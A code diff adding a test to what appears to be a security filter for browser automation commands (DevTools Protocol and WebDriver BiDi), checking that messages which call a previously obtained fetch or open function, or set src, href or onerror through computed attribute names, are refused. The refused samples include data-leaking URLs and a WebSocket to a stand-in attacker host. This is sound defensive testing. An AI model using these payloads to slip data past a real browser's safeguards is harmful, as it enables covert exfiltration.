@@ -992,6 +992,46 @@ t.test('twenty-third pass: window.open and the timers held under another name, a
   }
 });
 
+// A function given objects an earlier command got (twenty-third pass, left open by the twenty-second:
+// a sink got under another name in one command and called by the next): `Runtime.evaluate` of
+// `window` or `Runtime.getProperties` hands out the objectId of `fetch` or `open`, and
+// `callFunctionOn` calls it as `this` or an argument; or it is given a URL attribute's name and
+// sets it (`el[k] = u`, `el.setAttribute(k, u)` with `k` `'src'`). Each went on.
+t.test('twenty-third pass: a function that calls an object an earlier command got, or sets an attribute named by an argument, is refused', async (t) => {
+  const obj = { objectId: '-4821.3.17' };
+  const cf = (fn: string, args: unknown[], self = true): string => JSON.stringify(cdp('Runtime.callFunctionOn', { functionDeclaration: fn, ...(self ? { objectId: '-4821.3.9' } : { executionContextId: 3 }), arguments: args }));
+  const bidiCall = (fn: string, args: unknown[]): string => JSON.stringify({ id: 1, method: 'script.callFunction', params: { functionDeclaration: fn, awaitPromise: false, target: { context: 'C1' }, this: { handle: 'h-9' }, arguments: args } });
+  const refused = [
+    cf('function (u) { return this(u) }', [{ value: '/c?d=4111' }]),
+    cf('function (u) { return this.call(null, u) }', [{ value: '/c?d=4111' }]),
+    cf('(f, u) => f(u)', [obj, { value: '/c?d=4111' }], false),
+    cf('async function (f, u) { await f.apply(null, [u]) }', [obj, { value: '/c?d=4111' }], false),
+    cf('(F, u) => new F(u)', [obj, { value: 'wss://4111.evil.example/' }], false),
+    cf('(f, u) => Reflect.apply(f, null, [u])', [obj, { value: '/c?d=4111' }], false),
+    cf('function () { window.sink = this }', []),
+    cf('(f) => { globalThis["s"] = f }', [obj], false),
+    cf('function (k, u) { this[k] = u }', [{ value: 'src' }, { value: '/c?d=4111' }]),
+    cf('(el, k, u) => { el[k] = u }', [obj, { value: 'href' }, { value: '/c?d=4111' }], false),
+    cf('function (k, u) { this.setAttribute(k, u) }', [{ value: 'SRC' }, { value: '/c?d=4111' }]),
+    cf('(el, k, u) => el.setAttributeNS(null, k, u)', [obj, { value: 'onerror' }, { value: 'fetch(1)' }], false),
+    bidiCall('function (u) { this(u) }', [{ type: 'string', value: '/c?d=4111' }]),
+    bidiCall('(f, u) => f(u)', [{ sharedId: 's-1' }, { type: 'string', value: '/c?d=4111' }]),
+  ];
+  for (const msg of refused) t.ok(cdpLoadsOf(msg).refused, msg.slice(0, 140));
+  t.equal((await session([refused[0]!], [], 'browser.example')).code, 1008, 'through the socket');
+  t.notOk(ranText().includes('this(u)'), 'nothing reached the browser');
+  // Controls: an element's own methods and properties, attributes that load nothing, reads.
+  for (const msg of [
+    cf('function () { this.click() }', []),
+    cf('(el, v) => { el.value = v; el.dispatchEvent(new Event("input")) }', [obj, { value: 'hello' }], false),
+    cf('(el, k) => el.getAttribute(k)', [obj, { value: 'href' }], false),
+    cf('(el, k, v) => el.setAttribute(k, v)', [obj, { value: 'aria-label' }, { value: 'Search' }], false),
+    cf('(el, k) => el[k]', [obj, { value: 'src' }], false),
+    cf('(utilityScript, ...args) => utilityScript.evaluate(...args)', [obj, { value: true }, { value: '() => document.title' }], false),
+    bidiCall('function () { return this.textContent }', []),
+  ]) t.notOk(cdpLoadsOf(msg).refused, `goes on: ${msg.slice(0, 140)}`);
+});
+
 // An `Object.assign` whose object has a key computed at run time (twenty-third pass:
 // `Object.assign(img, {[k]: '/c?d=…'})` with `k` `'src'` went on; only keys written out were read).
 t.test('twenty-third pass: Object.assign of a computed key is refused, in every spelling', async (t) => {
